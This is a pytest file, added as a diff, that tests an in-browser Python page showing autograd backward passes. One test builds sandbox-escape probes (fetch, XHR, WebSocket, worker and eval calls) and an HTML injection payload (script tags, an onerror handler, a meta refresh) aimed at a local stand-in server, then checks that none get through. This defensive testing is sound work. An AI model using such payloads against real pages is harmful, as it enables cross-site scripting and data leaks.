@@ -1,0 +1,446 @@
+"""Does the page of notebooks/site turn what is typed into its backward pass, and nothing else?
+
+The folder is built once, served from this machine, and opened in Chromium. Every request to another
+place is counted, by the browser and by a second server that stands for the rest of the world.
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import os
+import shutil
+import subprocess
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from functools import partial
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from threading import Thread
+from types import ModuleType
+from typing import Any, ClassVar
+from urllib.parse import parse_qs, quote, urlsplit
+
+import pytest
+
+from autograd import steps
+from autograd.steps import Steps
+from tests.chromium import chromium, missing
+
+FOLDER = Path(__file__).parent.parent / "notebooks" / "site"
+PATIENCE = 90_000  # milliseconds that a busy machine may take for what takes it seconds
+SECONDS = 300  # for building, on a busy machine
+
+
+def module(name: str) -> ModuleType:
+    """A file of the folder, which is no package."""
+    spec = importlib.util.spec_from_file_location(f"site_{name}", FOLDER / f"{name}.py")
+    assert spec is not None
+    assert spec.loader is not None
+    made = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(made)
+    return made
+
+
+build, run = module("build"), module("run")
+EXAMPLES = build.examples((FOLDER / "examples.md").read_text(encoding="utf-8"))
+
+
+def expected(text: str) -> Steps:
+    """What Python has for a text that is typed into the box."""
+    shown = run._of_formula(text)
+    shown = run._of_code(text) if shown is None else shown
+    return shown if isinstance(shown, Steps) else steps(shown)
+
+
+# --- the text in the box, in Python ---------------------------------------------------------------
+
+
+@pytest.fixture(autouse=True)
+def _in_a_folder_of_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)  # where the page of a player is written
+
+
+def result(text: str) -> dict[str, str]:
+    found: dict[str, str] = json.loads(run.run(text))
+    return found
+
+
+def test_the_numbers_of_a_formula_are_its_leaves() -> None:
+    for text in ("x = 3; y = -2; h = x*y; tanh(h)", "x = 3\ny = -2\nh = x*y\n\ntanh(h)\n"):
+        shown = expected(text)
+        assert [shown.names[node] for node in shown.nodes if not node.parents] == ["x", "y"]
+        assert shown.output.data == pytest.approx(-0.9999877)
+        assert result(text)["page"].startswith("<!DOCTYPE html>")
+
+
+@pytest.mark.parametrize(
+    ("text", "error"),
+    [
+        ("x = 3; 2x", "    x = 3; 2x\n            ^\nexpected an operator or ; here, not x;"),
+        ("x*x", "x has no value: add x=..."),
+        ("2 + 3", "a formula of numbers alone has no gradients: 2 + 3"),
+        ("x = 3; sine(x)", "NameError: name 'sine' is not defined"),
+    ],
+)
+def test_what_is_wrong_with_a_formula_is_told(text: str, error: str) -> None:
+    found = result(text)
+    assert error in found["error"]
+    assert found["page"] == ""
+
+
+def test_an_error_shows_the_lines_of_the_user_alone() -> None:
+    text = "import autograd\ndef f(x):\n    return x.log()\n"
+    text += "print('here')\n\n\nf(autograd.Value(0))"
+    found = result(text)
+    assert found["printed"] == "here\n"
+    lines = [line for line in found["error"].splitlines() if set(line.strip()) - set("~^")]
+    assert [line.strip() for line in lines] == [
+        "Traceback (most recent call last):",
+        'File "code.py", line 7, in <module>',
+        "f(autograd.Value(0))",
+        'File "code.py", line 3, in f',
+        "return x.log()",
+        "ValueError: log(0.0): it takes numbers above 0",
+    ]
+    assert "SyntaxError" in result("a = (1,\nb")["error"]
+    assert "SystemExit: 3" in result("raise SystemExit(3)")["error"]
+    twice = result("try:\n    1 / 0\nexcept ZeroDivisionError as e:\n    raise KeyError(1) from e")
+    assert twice["error"].count('File "code.py"') == 2
+
+
+def test_code_shows_the_value_it_ends_with_or_else_its_newest() -> None:
+    first = "from autograd import Value\na = Value(2.0)\nb = a * a\nc = b.tanh()\n"
+    for ending, name in (("", "c"), ("b", "b"), ("b.backward()", "c"), ("print(a.grad)", "c")):
+        shown = expected(first + ending)
+        assert shown.names[shown.output] == name
+    assert result("print(6 * 7)") == {"printed": "42\n", "error": "", "page": ""}
+    assert result("6 * 7; 'end'")["printed"] == "'end'\n"
+
+
+def test_a_loop_that_prints_does_not_fill_the_memory() -> None:
+    found = result('for _ in range(100):\n    print("x" * 10_000)')
+    assert len(found["printed"]) < 60_000
+    assert found["printed"].endswith("… and more")
+
+
+def test_there_are_a_dozen_examples_and_exercises_among_them() -> None:
+    assert len(EXAMPLES) >= 12
+    assert sum(example["predict"] for example in EXAMPLES) >= 3
+    assert all(not result(str(example["text"]))["error"] for example in EXAMPLES)
+
+
+# --- the page, in a browser -----------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The folder that is served: the first worker that asks builds it, the others wait for it."""
+    if not shutil.which("npm"):
+        missing("the page needs npm: apt-get install nodejs npm")
+    shared = tmp_path_factory.getbasetemp()
+    if "PYTEST_XDIST_WORKER" in os.environ:
+        shared = shared.parent
+    out, failed = shared / "site", shared / "site-failed"
+    try:
+        (shared / "site-is-built").mkdir()
+    except FileExistsError:
+        until = time.monotonic() + SECONDS
+        while not (out.exists() or failed.exists()) and time.monotonic() < until:
+            time.sleep(0.2)
+    else:
+        try:
+            build.build(shared / "site-part")
+            (shared / "site-part").rename(out)
+        except Exception as error:
+            failed.write_text(f"the page was not built: {error} {getattr(error, 'stderr', '')}")
+            if not isinstance(error, subprocess.CalledProcessError):  # of npm or pip, without net
+                raise
+    if not out.exists():
+        missing(failed.read_text() if failed.exists() else "the page was not built in time")
+    return out
+
+
+@contextmanager
+def served(handler: Any) -> Iterator[str]:
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        thread = Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}/"
+        server.shutdown()
+        thread.join()
+
+
+class Quiet(SimpleHTTPRequestHandler):
+    """The server of the folder. The page itself asks for nothing with a question mark."""
+
+    asked: ClassVar[list[str]] = []
+
+    def log_request(self, *arguments: Any) -> None:
+        if "?" in self.path:
+            self.asked.append(self.path)
+
+    def log_message(self, format: str, *arguments: Any) -> None:
+        pass
+
+
+class World:
+    """The rest of the world: it takes every request, allows everything, and counts."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+
+    def handler(self) -> type[BaseHTTPRequestHandler]:
+        asked = self.asked
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                asked.append(self.path)
+                self.send_response(200)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.send_header("Content-Type", "text/javascript")
+                self.end_headers()
+
+            do_POST = do_OPTIONS = do_GET
+
+            def log_message(self, format: str, *arguments: Any) -> None:
+                pass
+
+        return Handler
+
+
+class Site:
+    """The page in a tab."""
+
+    def __init__(self, tab: Any, address: str) -> None:
+        self.tab, self.address = tab, address
+        self.aborted: list[str] = []
+        self.problems: list[str] = []
+        tab.on("pageerror", lambda error: self.problems.append(str(error)))
+        tab.route(lambda url: not url.startswith((address, "blob:")), self._abort)
+
+    def _abort(self, route: Any) -> None:
+        self.aborted.append(route.request.url)
+        route.abort()
+
+    def open(self, fragment: str = "") -> None:
+        self.tab.goto("about:blank")  # the same page with another fragment would not load again
+        self.tab.goto(self.address + fragment)
+
+    def type(self, text: str) -> None:
+        self.tab.fill("#code", text)
+        self.tab.set_checked("#predict", False)
+        self.tab.click("#run")
+        self.wait()
+
+    def wait(self) -> None:
+        """Until nothing runs."""
+        self.tab.locator("#run", has_text="Run").wait_for(timeout=PATIENCE)
+
+    def text(self, name: str) -> str:
+        found: str = self.tab.locator(f"#{name}").text_content()
+        return found
+
+    @property
+    def frame(self) -> Any:
+        return self.tab.frames[1]
+
+    def state(self) -> dict[str, Any]:
+        found: dict[str, Any] = self.frame.evaluate(
+            "document.querySelector('#shown > div').player.state()"
+        )
+        return found
+
+
+@pytest.fixture(scope="module")
+def world() -> Iterator[tuple[World, str]]:
+    made = World()
+    with served(made.handler()) as address:
+        yield made, address
+
+
+@pytest.fixture(scope="module")
+def opened(folder: Path) -> Iterator[Site]:
+    with served(partial(Quiet, directory=str(folder))) as address, chromium() as browser:
+        context = browser.new_context(viewport={"width": 1200, "height": 900})
+        site = Site(context.new_page(), address)
+        site.open()
+        site.wait()
+        yield site
+        context.close()
+
+
+@pytest.fixture
+def site(opened: Site) -> Iterator[Site]:
+    """The page, as the test before left it; Python is started once, as that takes seconds."""
+    yield opened
+    assert not opened.aborted
+    assert not opened.problems
+
+
+def same(gradients: list[float | None], shown: Steps) -> bool:
+    """Python's own gradients; its logarithms and those in a browser differ in their last digit."""
+    known = [shown.gradients.get(node) for node in shown.nodes]
+    return known == [g if g is None else pytest.approx(g, rel=1e-12, abs=1e-15) for g in gradients]
+
+
+def test_a_formula_becomes_a_player_that_steps_and_follows_its_leaves(site: Site) -> None:
+    text = "x = 2; w = -1.5; h = x*w; tanh(h) * x"
+    site.type(text)
+    state = site.state()
+    assert same(state["gradients"], expected(text))
+    site.frame.locator("button.first").click()
+    seen = [site.state()]
+    for _ in range(seen[0]["last"]):
+        site.tab.keyboard.press("ArrowRight")
+        seen.append(site.state())
+    assert [each["position"] for each in seen] == list(range(7))
+    assert seen[-1] == state
+    assert [each["phase"] for each in seen[1:]] == ["forward"] * 3 + ["backward"] * 3
+    box = site.frame.locator(".stage .node").first.bounding_box()
+    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
+    mouse = site.tab.mouse
+    mouse.move(x, y)
+    mouse.down()
+    mouse.move(x + 40, y, steps=4)
+    mouse.up()
+    moved = site.state()
+    names = expected(text).names.values()
+    there = moved["data"][list(names).index("x")]
+    assert there > 2.0
+    assert same(moved["gradients"], expected(text.replace("x = 2", f"x = {there!r}")))
+
+
+@pytest.mark.parametrize("which", range(len(EXAMPLES)), ids=[str(e["title"]) for e in EXAMPLES])
+def test_each_example_is_played_with_the_gradients_of_python(site: Site, which: int) -> None:
+    site.tab.select_option("#examples", str(which))
+    site.wait()
+    assert site.text("error") == ""
+    example = EXAMPLES[which]
+    state = site.state()
+    shown = expected(str(example["text"]))
+    assert len(state["gradients"]) == len(shown.nodes)
+    assert site.tab.is_checked("#predict") == example["predict"]
+    if example["predict"]:  # nothing is known before it was predicted
+        assert state["position"] == 0
+        assert not any(state["gradients"])
+    else:
+        assert same(state["gradients"], shown)
+
+
+def test_an_error_is_shown_and_the_next_text_runs(site: Site) -> None:
+    site.type("import numpy")
+    assert site.text("error").startswith('Traceback (most recent call last):\n  File "code.py"')
+    assert site.text("error").endswith("ModuleNotFoundError: No module named 'numpy'")
+    assert not site.tab.locator("#frame").is_visible()
+    site.type("x = 1; exp(x)")
+    assert site.text("error") == ""
+    assert site.tab.locator("#frame").is_visible()
+
+
+LEAVING = """
+import js
+from pyodide.ffi import to_js
+
+there, here = "{there}", "{here}"
+
+def attempt(call, *arguments):
+    try:
+        result = call(*arguments)
+        if hasattr(result, "catch"):
+            result.catch(lambda _: None)
+    except BaseException as error:
+        print(call, error)
+
+def synchronous(address):
+    request = js.XMLHttpRequest.new()
+    request.open("GET", address, False)
+    request.send()
+    print("ANSWERED", address)
+
+def worker(source):
+    js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([source])))).postMessage(1)
+
+for address in (there, here):
+    attempt(js.fetch, address + "?fetch")
+    attempt(synchronous, address + "?xhr")
+    attempt(js.WebSocket.new, address.replace("http", "ws") + "?socket")
+    attempt(js.EventSource.new, address + "?events")
+    for how in ("fetch", "import", "importScripts"):
+        each = f"(async () => {{how}}('{{address}}?{{how}}'))().catch(() => 0)"
+        attempt(worker, each)
+        attempt(js.Worker.new, "data:text/javascript," + each)
+        attempt(js.eval, each)
+attempt(js.Worker.new, there + "?worker")
+js.self.postMessage(to_js({{"result": {{"printed": "", "error": "", "page": ATTACK}}}},
+    dict_converter=js.Object.fromEntries))
+"""
+# A page that Python never made, with what would run or load something in a page.
+ATTACK = """
+<script>parent.postMessage({{ran: 1}}, "*"); fetch("{there}?script")</script>
+<script type="application/json">{{}}</script>
+<img src="{there}?image" onerror="fetch('{there}?handler')">
+<meta http-equiv="refresh" content="0; url={there}?refresh">
+"""
+
+
+def test_code_reaches_no_network_and_none_of_the_page(site: Site, world: tuple[World, str]) -> None:
+    count, there = world
+    here = site.address + "build.json"
+    attack = f"ATTACK = {ATTACK.format(there=there)!r}\n"
+    site.type(attack + LEAVING.format(there=there, here=here))
+    assert "ANSWERED" not in site.text("printed")
+    site.type("import js\nprint(js.self.origin, hasattr(js, 'document'), hasattr(js, 'caches'))")
+    assert site.text("printed") == "null False False\n"
+    assert count.asked == Quiet.asked == []
+    site.aborted.clear()  # what the policy refused is named there as well, though it never left
+
+
+def test_the_frame_stays_on_the_page(site: Site, world: tuple[World, str]) -> None:
+    count, there = world
+    tab = site.tab.context.new_page()
+    tab.goto(site.address)
+    frame = tab.frame_locator("#frame").locator("#shown")
+    frame.wait_for(state="attached")
+    tab.frames[1].evaluate("(there) => { location.href = there; }", there + "?navigated")
+    frame.wait_for(state="detached")
+    assert count.asked == []
+    tab.close()
+
+
+READY = "new Promise((is) => addEventListener('message', ({ data }) => data.ready && is()))"
+
+
+def test_a_link_with_code_waits_until_it_is_run(site: Site) -> None:
+    text = 'from autograd import Value\nprint("ran <b>once</b>")\ny = Value(3.0) ** 2  # é & #'
+    site.open(f"#code={quote(text)}&predict=1")
+    site.tab.evaluate(READY)
+    assert site.tab.input_value("#code") == text
+    assert site.tab.is_checked("#predict")
+    assert site.tab.locator("#linked").is_visible()
+    assert site.text("printed") == ""
+    assert not site.frame.locator("#shown > div").count()
+    site.tab.click("#run")
+    site.wait()
+    assert site.text("printed") == "ran <b>once</b>\n"
+    assert site.state()["position"] == 0
+    assert parse_qs(urlsplit(site.tab.url).fragment) == {"code": [text], "predict": ["1"]}
+
+
+def test_an_endless_loop_is_stopped_and_python_starts_anew(site: Site) -> None:
+    site.type("while True:\n    pass")
+    assert site.text("error") == "Stopped after 10 seconds."
+    site.type("x = 3; x*x")
+    assert site.text("error") == ""
+    assert site.state()["gradients"] == [6.0, 1.0]
+
+
+def test_a_phone_scrolls_in_one_direction_and_in_one_place(site: Site) -> None:
+    site.tab.set_viewport_size({"width": 390, "height": 844})
+    site.type("x = 3; y = 2; tanh(x*y) + x")
+    site.tab.wait_for_timeout(300)
+    assert site.tab.evaluate("document.documentElement.scrollWidth") == 390
+    heights = site.frame.evaluate("[innerHeight, document.documentElement.scrollHeight]")
+    assert heights[0] == heights[1]
+    site.tab.set_viewport_size({"width": 1200, "height": 900})
